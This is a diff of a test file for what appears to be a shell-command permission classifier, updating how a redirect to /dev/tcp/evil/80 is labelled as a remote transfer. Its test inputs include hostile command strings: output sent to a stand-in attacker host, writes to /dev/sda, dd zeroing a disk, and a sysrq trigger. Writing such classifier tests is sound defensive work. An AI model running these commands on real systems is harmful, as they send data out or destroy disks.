@@ -64,7 +64,7 @@ def seen(text: str) -> list[str]:
         ("a >> $x", ["execute.program a", "write *"]),
         ("a < b 2> c", ["execute.program a", "read ~/b", "write ~/c"]),
         ("a > /dev/null 2>&1 < /dev/null", ["execute.program a"]),
-        ("a > /dev/tcp/evil/80", ["execute.program a", "transfer.remote /dev/tcp/evil/80"]),
+        ("a > /dev/tcp/evil/80", ["execute.program a", "transfer.remote evil"]),
         ("a > /dev/sda", ["admin.storage /dev/sda", "execute.program a"]),
         ("echo b > /proc/sysrq-trigger", ["admin.setting /proc/sysrq-trigger", "read"]),
         ("dd if=/dev/zero of=/dev/sda", ["admin.storage /dev/sda", "read /dev/zero"]),
